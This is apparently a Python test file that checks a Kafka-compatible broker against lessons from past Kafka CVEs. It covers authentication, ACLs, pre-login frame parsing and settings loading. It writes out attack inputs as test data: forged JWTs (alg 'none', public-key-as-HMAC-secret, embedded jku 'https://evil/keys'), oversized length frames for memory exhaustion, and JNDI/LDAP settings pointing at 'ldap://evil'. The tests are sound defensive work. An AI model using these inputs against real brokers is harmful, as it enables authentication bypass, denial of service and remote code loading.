"""The lessons of Apache Kafka's and its clients' CVEs, one test each; the test's claim holds here.

NOT HERE Which of an API's rights is checked when (`tests/conformance/test_acls.py`).
"""

from __future__ import annotations

import hmac
import json
import struct
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jwt
import psutil
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import RSAAlgorithm
from jwt.utils import base64url_encode

from barnabas import Broker, Security
from barnabas.embedded import BrokerError
from broker.config.oauth_configs import JWKS_HANDLER
from broker.config.sasl_configs import ClientCredentials
from broker.security.sasl.client import InvalidServer, sasl_client
from broker.security.sasl.mechanism import InvalidCredentials
from broker.security.sasl.plain import PlainServer
from broker.security.sasl.scram import ScramServer
from protocol.errors import ErrorCode
from protocol.messages import acls
from protocol.messages.admin import CreateTopicsRequest
from protocol.messages.produce_fetch import FetchRequest, ProduceRequest
from protocol.primitives import uvarint
from protocol.schema import Message
from tests.support.authorization_walk import transactional_batch
from tests.support.messages import message
from tests.support.raw_client import RawClient
from tests.support.sasl import (
    MODULE,
    handshake,
    plain_token,
    sasl_node,
    scram_final,
    scram_first,
    send_token,
)
from tests.support.waiting import until
from tests.unit.broker.security.sasl.test_scram import KNOWN, MECHANISM

USERS = {"admin": "admin-secret", "guest": "guest-secret"}
TOPIC, TRANSACTION = "secret", "tx"
TOPIC_TYPE, READ, WRITE, ALLOW, ANY = 2, 3, 4, 3, 1
MAX_GROWTH_BYTES = 8 << 20


@pytest.fixture(scope="module")
def broker() -> Iterator[Broker]:
    security = Security(protocol="SASL_PLAINTEXT", mechanism="PLAIN", users=USERS, has_acls=True)
    with Broker(security=security) as broker:
        topics = [{"name": TOPIC, "num_partitions": 1, "replication_factor": 1}]
        assert ask(broker, message(CreateTopicsRequest, topics=topics, timeout_ms=9000), 7).topics[0].error_code == 0
        yield broker


def ask(broker: Broker, request: Message, version: int, user: str = "admin") -> Any:
    with RawClient(broker.bootstrap) as client:
        handshake(client, "PLAIN")
        assert not send_token(client, plain_token(user, USERS[user])).error_code
        return client.ask(request, version)


def allow(broker: Broker, operation: int, host: str = "*") -> None:
    creation = acls.AclCreation(
        resource_type=TOPIC_TYPE, resource_name=TOPIC, principal="User:guest", host=host, operation=operation,
        permission_type=ALLOW,
    )  # fmt: skip
    response = ask(broker, acls.CreateAclsRequest(creations=[creation]), 3)
    assert [result.error_code for result in response.results] == [ErrorCode.NONE]


def fetch_error(broker: Broker, replica_id: int) -> int:
    partitions = [{"partition": 0, "fetch_offset": 0, "partition_max_bytes": 1}]
    topics = [{"topic": TOPIC, "partitions": partitions}]
    request = message(FetchRequest, replica_id=replica_id, max_wait_ms=0, min_bytes=0, topics=topics)
    response = ask(broker, request, 11, "guest")
    return int(response.responses[0].partitions[0].error_code)


# ---- rights ------------------------------------------------------------------------------------------------


def test_cve_2017_12610_a_user_cannot_act_for_another_one() -> None:
    with pytest.raises(InvalidCredentials, match="authorization id that is different"):
        PlainServer(USERS).evaluate(plain_token("guest", USERS["guest"], authorization_id="admin"))
    with pytest.raises(InvalidCredentials):
        ScramServer("sha512", lambda _: KNOWN, "server").evaluate(b"n,a=admin,n=user,r=client")


def test_cve_2018_1288_a_consumer_cannot_fetch_like_a_follower(broker: Broker) -> None:
    allow(broker, READ)
    assert fetch_error(broker, replica_id=-1) == ErrorCode.NONE
    assert fetch_error(broker, replica_id=1) == ErrorCode.TOPIC_AUTHORIZATION_FAILED


def test_cve_2018_17196_atransactional_batch_needs_the_right_to_the_transaction(broker: Broker) -> None:
    allow(broker, WRITE)
    for name in (TRANSACTION, None):
        data = [{"name": TOPIC, "partition_data": [{"index": 0, "records": transactional_batch()}]}]
        request = message(ProduceRequest, transactional_id=name, acks=1, timeout_ms=9000, topic_data=data)
        (topic,) = ask(broker, request, 9, "guest").responses
        assert topic.partition_responses[0].error_code == ErrorCode.TRANSACTIONAL_ID_AUTHORIZATION_FAILED


def test_cve_2024_27309_the_other_acls_of_a_resource_remain_when_one_is_removed(broker: Broker) -> None:
    allow(broker, READ)
    allow(broker, READ, host="203.0.113.9")
    selected = {
        "resource_type_filter": TOPIC_TYPE, "resource_name_filter": TOPIC, "principal_filter": None,
        "host_filter": "203.0.113.9", "operation": ANY, "permission_type": ANY,
    }  # fmt: skip
    response = ask(broker, message(acls.DeleteAclsRequest, filters=[selected]), 3)
    assert len(response.filter_results[0].matching_acls) == 1
    assert fetch_error(broker, replica_id=-1) == ErrorCode.NONE


# ---- authentication ----------------------------------------------------------------------------------------


def test_cve_2021_38153_secrets_are_compared_in_constant_time(monkeypatch: pytest.MonkeyPatch) -> None:
    compared = []
    monkeypatch.setattr(hmac, "compare_digest", lambda left, right: compared.append((left, right)))
    with pytest.raises(InvalidCredentials):
        PlainServer(USERS).evaluate(plain_token("guest", "wrong"))
    assert compared == [(b"wrong", USERS["guest"].encode())]
    server, first = ScramServer("sha512", lambda _: KNOWN, "server"), scram_first("user")
    challenge = server.evaluate(first)
    with pytest.raises(InvalidCredentials):
        server.evaluate(scram_final(MECHANISM, first, challenge, "pencil"))
    assert KNOWN.stored_key in compared[1]


@pytest.mark.parametrize("nonce", [b"server", b"xserver", b"client", b"clientserverx", b"xclientserver"])
def test_cve_2024_56128_the_nonce_of_a_proof_equals_the_servers(nonce: bytes) -> None:
    server, first = ScramServer("sha512", lambda _: KNOWN, "server"), scram_first("user")
    challenge = server.evaluate(first)
    with pytest.raises(InvalidCredentials):
        server.evaluate(scram_final(MECHANISM, first, challenge, "pencil", nonce=nonce))


def test_cve_2026_10143_a_server_cannot_ask_our_client_for_many_iterations() -> None:
    client = sasl_client(ClientCredentials(MECHANISM, "user", "pencil"), "client")
    client.first()
    with pytest.raises(InvalidServer, match="too many iterations"):
        client.answer(b"r=clientserver,s=c2FsdA==,i=2000000000")


KEY, OTHER_KEY = (rsa.generate_private_key(public_exponent=65537, key_size=2048) for _ in range(2))
CLAIMS = {"sub": "admin", "iat": 1_700_000_000, "exp": 4_000_000_000, "iss": "https://issuer", "aud": "kafka"}


def without_signature(algorithm: str, signature: str = "") -> str:
    header, claims = (base64url_encode(json.dumps(part).encode()).decode() for part in ({"alg": algorithm}, CLAIMS))
    return f"{header}.{claims}.{signature}"


def signed_by_the_public_key() -> str:
    """With the text of the public key as a shared secret, which is known to all."""
    text = KEY.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    part = without_signature("HS256").rpartition(".")[0]
    return f"{part}.{base64url_encode(hmac.digest(text, part.encode(), 'sha256')).decode()}"


def with_the_key_in_the_header() -> str:
    own = json.loads(RSAAlgorithm.to_jwk(OTHER_KEY.public_key()))
    return jwt.encode(CLAIMS, OTHER_KEY, "RS256", headers={"jwk": own, "jku": "https://evil/keys"})


FORGED = {
    "no algorithm": without_signature("none"),
    "no algorithm, in other letters": without_signature("nOnE"),
    "no signature": without_signature("RS256"),
    "the signature of something else": without_signature("RS256", jwt.encode({}, KEY, "RS256").rpartition(".")[2]),
    "the public key as a shared secret": signed_by_the_public_key(),
    "a key that the token brings along": with_the_key_in_the_header(),
    "another key": jwt.encode(CLAIMS, OTHER_KEY, "RS256"),
}


def oauth_settings(url: str) -> dict[str, str]:
    oauth = "listener.name.sasl_plaintext.oauthbearer.sasl"
    return {
        "sasl.enabled.mechanisms": "PLAIN,OAUTHBEARER",
        f"{oauth}.jaas.config": f"{MODULE}.oauthbearer.OAuthBearerLoginModule required;",
        f"{oauth}.server.callback.handler.class": JWKS_HANDLER,
        "sasl.oauthbearer.jwks.endpoint.url": url,
        "sasl.oauthbearer.expected.issuer": "https://issuer",
        "sasl.oauthbearer.expected.audience": "kafka",
        "barnabas.sasl.oauthbearer.allowed.urls": url,
    }


def login_error(address: str, token: str) -> int:
    """The error of a login with a token, after the confirmation of a refusal."""
    with RawClient(address) as client:
        handshake(client, "OAUTHBEARER")
        first = send_token(client, f"n,,\x01auth=Bearer {token}\x01\x01".encode())
        assert first.error_code == 0
        return int(send_token(client, b"\x01").error_code) if first.auth_bytes else 0


def test_cve_2026_33557_a_token_counts_only_with_the_signature_of_a_known_key(tmp_path: Path) -> None:
    keys = tmp_path / "jwks.json"
    keys.write_text(json.dumps({"keys": [json.loads(RSAAlgorithm.to_jwk(KEY.public_key()))]}))
    settings, address = sasl_node(oauth_settings(keys.as_uri()))
    with Broker(settings=settings):
        assert login_error(address, jwt.encode(CLAIMS, KEY, "RS256")) == ErrorCode.NONE
        refused = {name: login_error(address, token) for name, token in FORGED.items()}
    assert refused == dict.fromkeys(FORGED, ErrorCode.SASL_AUTHENTICATION_FAILED)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(None, id="no file"),
        pytest.param('{"keys": [{"kty": "oct", "k": "c2VjcmV0", "alg": "HS256"}]}', id="a secret"),
        pytest.param("", id="an empty file", marks=pytest.mark.long),
        pytest.param("{}", id="no list", marks=pytest.mark.long),
        pytest.param('{"keys": []}', id="an empty list", marks=pytest.mark.long),
    ],
)
def test_cve_2026_110985_without_keys_no_token_counts(tmp_path: Path, content: str | None) -> None:
    keys = tmp_path / "jwks.json"
    if content is not None:
        keys.write_text(content)
    settings, address = sasl_node(oauth_settings(keys.as_uri()))
    with Broker(settings=settings):
        for token in (FORGED["no algorithm"], jwt.encode(CLAIMS, KEY, "RS256")):
            assert login_error(address, token) == ErrorCode.SASL_AUTHENTICATION_FAILED


def test_cve_2026_110985_without_an_address_of_keys_no_node_starts() -> None:
    settings, _ = sasl_node(oauth_settings(""))
    with pytest.raises(BrokerError, match=r"sasl\.oauthbearer\.jwks\.endpoint\.url"), Broker(settings=settings):
        pass


# ---- before authentication ---------------------------------------------------------------------------------

SASL_AUTHENTICATE, API_VERSIONS = 36, 18


def header(api_key: int, version: int, client_id: bytes = b"\0\1c", tagged: bytes = b"\0") -> bytes:
    return struct.pack(">hhi", api_key, version, 1) + client_id + tagged


MANY = uvarint(2**31 - 1)
BEFORE_LOGIN = {
    "the length of a client id": header(API_VERSIONS, 3, client_id=struct.pack(">h", 0x7FFF), tagged=b""),
    "the number of a header's tagged fields": header(API_VERSIONS, 3, tagged=MANY),
    "the size of a header's tagged field": header(API_VERSIONS, 3, tagged=b"\1\0" + MANY),
    "the number of a request's tagged fields": header(API_VERSIONS, 3) + b"\2a\2b" + MANY,
    "the length of a software name": header(API_VERSIONS, 3) + MANY,
    "the length of a token": header(SASL_AUTHENTICATE, 2) + MANY,
    "the length of a token in the old format": header(SASL_AUTHENTICATE, 0, tagged=b"") + b"\x7f\xff\xff\xff",
}


@pytest.mark.parametrize("frame", BEFORE_LOGIN.values(), ids=BEFORE_LOGIN)
def test_cve_2022_34917_declared_lengths_before_login_reserve_no_memory(broker: Broker, frame: bytes) -> None:
    process = psutil.Process(broker.pid)
    before = process.memory_info().rss
    for _ in range(20):
        with RawClient(broker.bootstrap, timeout_s=5) as client:
            if frame[1] == SASL_AUTHENTICATE:
                handshake(client, "PLAIN")
            client.send_frame(frame)
            with pytest.raises((EOFError, ConnectionResetError)):
                client.receive_frame()
    assert process.memory_info().rss - before < MAX_GROWTH_BYTES


def test_cve_2022_34917_incomplete_frames_before_login_cost_what_they_sent(broker: Broker) -> None:
    """512 KiB are allowed; 200 clients that declare them would fill 100 MiB."""
    process = psutil.Process(broker.pid)
    before = process.memory_info().rss
    clients = [RawClient(broker.bootstrap) for _ in range(200)]
    for client in clients:
        client.socket.sendall(struct.pack(">i", 512 << 10) + b"\0")
    until(lambda: len(process.net_connections()) >= len(clients), "the connections are accepted")
    with RawClient(broker.bootstrap) as last:  # answered after all bytes before it
        handshake(last, "PLAIN")
    growth = process.memory_info().rss - before
    for client in clients:
        client.close()
    assert growth < MAX_GROWTH_BYTES


def test_cve_2026_111108_many_elements_need_many_bytes_before_login(broker: Broker) -> None:
    """A header of 500 KB with tagged fields of two bytes each is refused by their number."""
    with RawClient(broker.bootstrap) as client:
        client.send_frame(header(API_VERSIONS, 3, tagged=uvarint(250_000) + b"\0\0" * 250_000) + b"\2a\2b\0")
        with pytest.raises((EOFError, ConnectionResetError)):
            client.receive_frame()


# ---- settings ----------------------------------------------------------------------------------------------

JAAS = "listener.name.sasl_plaintext.plain.sasl.jaas.config"


@pytest.mark.parametrize(
    "settings",
    [
        {JAAS: 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil";'},
        {JAAS: 'com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://evil";'},
        {JAAS: f"{MODULE}.plain.PlainLoginModule required; evil.Module required;"},
        {"listener.name.sasl_plaintext.plain.sasl.server.callback.handler.class": "evil.Handler"},
        {"principal.builder.class": "evil.Builder"},
        {"authorizer.class.name": "evil.Authorizer"},
        {"security.providers": "evil.Provider"},
        {"ssl.engine.factory.class": "evil.Factory", "listeners": "SSL://127.0.0.1:0"},
    ],
    ids=lambda settings: next(iter(settings)) + " " + next(iter(settings.values()))[:40],
)
def test_cve_2023_25194_and_2025_27818_settings_load_no_code(settings: dict[str, str]) -> None:
    node, _ = sasl_node(settings)
    with pytest.raises(BrokerError, match="The broker did not start"), Broker(settings=node):
        pass


def test_cve_2024_31141_and_2025_27817_settings_read_no_file_and_no_variable(tmp_path: Any) -> None:
    (tmp_path / "file").write_text("password=from-the-file")
    providers = {
        "config.providers": "file",
        "config.providers.file.class": "org.apache.kafka.common.config.provider.FileConfigProvider",
    }
    reference = f"${{file:{tmp_path}/file:password}}"
    settings, address = sasl_node(
        {JAAS: f'{MODULE}.plain.PlainLoginModule required user_u="{reference}";', **providers}
    )
    with Broker(settings=settings):
        for password, code in ((reference, 0), ("from-the-file", ErrorCode.SASL_AUTHENTICATION_FAILED)):
            with RawClient(address) as client:
                handshake(client, "PLAIN")
                assert send_token(client, plain_token("u", password)).error_code == code
